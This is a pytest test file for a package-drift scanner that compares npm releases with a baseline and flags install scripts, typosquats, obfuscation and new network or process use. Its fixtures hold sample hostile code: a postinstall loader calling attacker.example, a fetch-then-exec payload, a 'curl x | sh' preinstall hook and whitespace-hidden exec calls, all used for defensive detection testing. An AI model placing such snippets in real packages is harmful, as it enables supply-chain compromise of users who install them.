"""Drift gate: `check NEW --baseline OLD` end to end on tarballs built for the tests, a clean twin, fail-closed
baselines, and the pure comparison."""

from __future__ import annotations

import json
from importlib import resources
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from extgate.engine import check
from extgate.formatters import to_json
from extgate.gates.drift import build_drift_config
from extgate.gates.drift.compare import compare, damerau_levenshtein, typo_target
from extgate.gates.drift.interface import FileInfo, Snapshot, Where
from extgate.model import Finding, Level, Verdict
from extgate.options import Options
from extgate.policy import Policy
from extgate.rules.registry import load_registry
from support.archives import npm_tgz

OFFLINE = {"offline": True, "network": False}
INDEX = "const chalk = require('chalk');\nmodule.exports = (s) => chalk.green(s);\n"


def manifest(version: str, **extra: Any) -> str:
    doc = {"name": "nice-lib", "version": version, "license": "MIT", "main": "index.js", "description": "x"}
    doc["dependencies"] = {"chalk": "^5.0.0"}
    doc.update(extra)
    return json.dumps(doc, indent=2)


def release(tmp_path: Path, name: str, files: dict[str, str | bytes]) -> Path:
    path = tmp_path / name
    path.write_bytes(npm_tgz(files))
    return path


def run(new: Path, baseline: str | Path, policy: Policy | None = None, **options: Any) -> Verdict:
    return check(new, policy, options=Options(baseline=str(baseline), **{**OFFLINE, **options}))


def drift(verdict: Verdict) -> list[Finding]:
    return [f for f in verdict.findings if f.gate == "drift"]


@pytest.fixture
def old(tmp_path: Path) -> Path:
    return release(tmp_path, "old.tgz", {"package.json": manifest("1.2.3"), "index.js": INDEX})


def test_a_takeover_release_is_reported_change_by_change(tmp_path: Path, old: Path) -> None:
    loader = (
        "const fs = require('fs'); const os = require('os'); const https = require('https');\n"
        "fs.writeFileSync(`${os.homedir()}/Desktop/WITH-LOVE.txt`, 'hi');\n"
        "https.get('https://collect.attacker.example/x');\n"
    )
    scripts = {"postinstall": "node lib/loader.js"}
    deps = {"chalk": "^5.0.0", "lodahs": "^1.0.0"}
    new = release(
        tmp_path,
        "new.tgz",
        {"package.json": manifest("1.2.4", main="lib/loader.js", scripts=scripts, dependencies=deps),
         "index.js": INDEX, "lib/loader.js": loader},
    )  # fmt: skip
    verdict = run(new, old)
    found = {(f.rule_id, f.level, f.path, f.line) for f in drift(verdict)}
    assert found == {
        ("drift/install-script", Level.ERROR, "package.json", 12),
        ("drift/new-dependency", Level.WARNING, "package.json", 9),
        ("drift/entry-point", Level.WARNING, "package.json", 5),
        ("drift/new-capability", Level.WARNING, "lib/loader.js", 1),  # network
        ("drift/new-capability", Level.WARNING, "lib/loader.js", 2),  # home-files
        ("drift/new-host", Level.WARNING, "lib/loader.js", 3),
    }
    (entry,) = [f for f in drift(verdict) if f.rule_id == "drift/entry-point"]
    assert entry.properties["baseline_path"] == "package.json" and entry.properties["baseline_line"] == 5
    assert "'index.js'" in entry.message and "Baseline location: package.json:5" in entry.message
    (typo,) = [f for f in drift(verdict) if f.rule_id == "drift/new-dependency"]
    assert typo.properties["typo_of"] == "lodash"
    assert verdict.baseline is not None and verdict.baseline.status == "compared"
    assert (verdict.baseline.name, verdict.baseline.version, verdict.baseline.added) == ("nice-lib", "1.2.3", 1)
    data = json.loads(to_json(verdict))
    schema = json.loads(resources.files("extgate").joinpath("schemas/verdict.schema.json").read_text())
    jsonschema.validate(data, schema)
    assert data["schema_version"] == "1.1" and data["baseline"]["changes"] == 6


def test_clean_twin_release_has_no_drift(tmp_path: Path, old: Path) -> None:
    index = INDEX.replace("green", "blue")
    new = release(tmp_path, "new.tgz", {"package.json": manifest("1.2.4"), "index.js": index})
    verdict = run(new, old)
    assert drift(verdict) == []
    assert verdict.baseline is not None and (verdict.baseline.modified, verdict.baseline.added) == (2, 0)


def test_file_level_drift(tmp_path: Path) -> None:
    readable = "".join(f"function f{i}(a, b) {{\n  return a + b * {i};\n}}\n" for i in range(200))
    minified = "".join(f"function f{i}(a,b){{return a+b*{i}}}" for i in range(200))
    obfuscated = "var _0x3f67=['push','shift'];" + "".join(f"var _0x{i:04x}=_0x3f67[0x{i:x}];" for i in range(120))
    padded = "module.exports = 1;" + " " * 1200 + "require('child_process').exec('id');\n"
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 200
    old = release(
        tmp_path,
        "old.tgz",
        {"package.json": manifest("2.0.0"), "index.js": INDEX, "lib/a.js": readable, "lib/b.js": readable,
         "lib/c.js": "module.exports = 2;\n"},
    )  # fmt: skip
    new = release(
        tmp_path,
        "new.tgz",
        {"package.json": manifest("2.0.1"), "index.js": INDEX, "lib/a.js": minified, "lib/b.js": obfuscated,
         "lib/c.js": padded, "bin/update": elf, "lib/extra.js": readable * 30},
    )  # fmt: skip
    found = {(f.rule_id, f.path, f.level) for f in drift(run(new, old))}
    assert {
        ("drift/minified", "lib/a.js", Level.WARNING),
        ("drift/obfuscated", "lib/b.js", Level.ERROR),
        ("drift/long-lines", "lib/c.js", Level.WARNING),
        ("drift/new-binary", "bin/update", Level.ERROR),
        ("drift/large-patch", "package.json", Level.WARNING),
    } <= found


def test_capabilities_arriving_together_are_an_error(tmp_path: Path, old: Path) -> None:
    payload = "const { exec } = require('child_process');\nfetch('https://x.example/c').then((r) => exec(r));\n"
    new = release(tmp_path, "new.tgz", {"package.json": manifest("1.3.0"), "index.js": INDEX + payload})
    caps = {f.properties["category"]: f.level for f in drift(run(new, old)) if f.rule_id == "drift/new-capability"}
    assert caps == {"network": Level.ERROR, "process": Level.ERROR}


def test_thresholds_are_policy_tunable(tmp_path: Path, old: Path) -> None:
    padded = INDEX + "module.exports.x = 1;" + " " * 1500 + "void 0;\n"
    new = release(tmp_path, "new.tgz", {"package.json": manifest("1.2.4"), "index.js": padded})
    assert [f.rule_id for f in drift(run(new, old))] == ["drift/long-lines"]
    relaxed = Policy.from_mapping({"drift": {"long_line": 5000}})
    assert "drift/long-lines" not in [f.rule_id for f in drift(run(new, old, relaxed))]


def test_a_directory_baseline_works(tmp_path: Path) -> None:
    folder = tmp_path / "old"
    folder.mkdir()
    (folder / "package.json").write_text(manifest("1.2.3"))
    (folder / "index.js").write_text(INDEX)
    new = release(tmp_path, "new.tgz", {"package.json": manifest("1.2.4", scripts={"preinstall": "curl x | sh"}),
                                        "index.js": INDEX})  # fmt: skip
    assert [f.rule_id for f in drift(run(new, folder))] == ["drift/install-script"]


# -- fail closed ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["corrupt", "missing", "empty-dir", "over-limit"])
def test_an_unusable_baseline_blocks(tmp_path: Path, kind: str) -> None:
    new = release(tmp_path, "new.tgz", {"package.json": manifest("1.2.4"), "index.js": INDEX})
    policy = None
    if kind == "corrupt":
        baseline: Path = tmp_path / "old.tgz"
        baseline.write_bytes(b"\x1f\x8b\x08\x00" + b"not really gzip" * 10)
    elif kind == "missing":
        baseline = tmp_path / "nope.tgz"
    elif kind == "empty-dir":
        baseline = tmp_path / "empty"
        baseline.mkdir()
    else:
        files = {"package.json": manifest("1.2.3"), **{f"f{i}.js": "1" for i in range(8)}}
        baseline = release(tmp_path, "old.tgz", files)
        policy = Policy.from_mapping({"archive": {"max_files": 5}})
    verdict = run(new, baseline, policy)
    (finding,) = drift(verdict)
    assert finding.rule_id == "drift/baseline-unavailable" and finding.level is Level.ERROR
    assert verdict.blocked and verdict.baseline is not None and verdict.baseline.status == "unavailable"
    assert not any(f.rule_id == "engine/internal-error" for f in verdict.findings)


def test_without_baseline_there_is_no_block(tmp_path: Path) -> None:
    new = release(tmp_path, "new.tgz", {"package.json": manifest("1.2.4"), "index.js": INDEX})
    verdict = check(new, options=Options(**OFFLINE))
    assert verdict.baseline is None and json.loads(to_json(verdict))["baseline"] is None


# -- pure comparison --------------------------------------------------------------------------------------------


def config() -> Any:
    return build_drift_config(load_registry().data("drift"), lambda key, default: default)


@pytest.mark.parametrize(
    ("a", "b", "distance"),
    [("lodash", "lodash", 0), ("lodash", "lodahs", 1), ("cross-env", "crossenv", 1), ("express", "expresss", 1),
     ("react", "preact", 1), ("axios", "axois", 1), ("chalk", "chalks", 1), ("abc", "xyz", 3)],
)  # fmt: skip
def test_damerau_levenshtein(a: str, b: str, distance: int) -> None:
    assert damerau_levenshtein(a, b) == distance


@pytest.mark.parametrize(
    ("name", "target"),
    [("lodahs", "lodash"), ("crossenv", "cross-env"), ("expresss", "express"), ("preact", None), ("lodash", None),
     ("my-own-lib", None), ("@acme/lodash", None), ("zx", None)],
)  # fmt: skip
def test_typo_targets(name: str, target: str | None) -> None:
    assert typo_target(name, config()) == target


def test_compare_is_pure_over_snapshots() -> None:
    old = Snapshot(name="p", version="1.0.0", manifest_path="package.json",
                   entry_points={"bin.p": ("bin/p.js", 4)},
                   files={"a.js": FileInfo("a.js", 10, "s1", code=True, max_line=20)})  # fmt: skip
    new = Snapshot(
        name="p", version="1.0.1", manifest_path="package.json", entry_points={"bin.p": ("bin/q.js", 6)},
        capabilities={"eval": (Where("a.js", 3), ("code/dynamic-eval",))},
        files={"a.js": FileInfo("a.js", 12, "s2", code=True, max_line=20)},
    )  # fmt: skip
    changes = compare(new, old, config())
    assert [(c.rule_id, str(c.new), str(c.old) if c.old else None) for c in changes] == [
        ("drift/new-capability", "a.js:3", None),
        ("drift/entry-point", "package.json:6", "package.json:4"),
    ]
    assert compare(new, old, config()) == changes  # deterministic
    assert compare(old, old, config()) == []


# -- command line -----------------------------------------------------------------------------------------------


def test_cli_baseline(tmp_path: Path, old: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from extgate.cli import main

    new = release(tmp_path, "new.tgz", {"package.json": manifest("1.2.4", main="lib/x.js"), "index.js": INDEX,
                                        "lib/x.js": INDEX})  # fmt: skip
    assert main(["check", str(new), "--baseline", str(tmp_path / "missing.tgz")]) == 2
    assert main(["check", str(new), "--baseline", "auto"]) == 2
    assert "--registry" in capsys.readouterr().err
    out = tmp_path / "v.json"
    main(["check", str(new), "--baseline", str(old), "--offline", "--format", "json", "-o", str(out)])
    data = json.loads(out.read_text())
    assert data["baseline"]["version"] == "1.2.3"
    assert [f["rule_id"] for f in data["findings"] if f["rule_id"].startswith("drift/")] == ["drift/entry-point"]
